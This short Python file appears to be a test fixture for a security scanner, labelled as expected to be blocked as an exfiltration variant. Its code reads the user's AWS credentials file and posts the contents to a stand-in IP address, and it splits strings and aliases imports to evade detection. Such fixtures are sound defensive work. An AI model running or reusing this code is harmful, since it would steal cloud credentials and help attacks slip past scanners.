# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/aws_credentials_urllib.py technique: alias+concat
import json as _m0
import urllib.request
from pathlib import Path as _f1
creds = (_f1.home() / ('.' + 'a' + 'w' + 's') / ('cre' + 'den' + 'tia' + 'ls')).read_text()
request = urllib.request.Request('https://' + '203.0.11' + '3.9/uplo' + 'ad', data=_m0.dumps({'c': creds}).encode(), headers={'Cont' + 'ent-' + 'Type': 'appli' + 'catio' + 'n/jso' + 'n'})
urllib.request.urlopen(request, timeout=10)
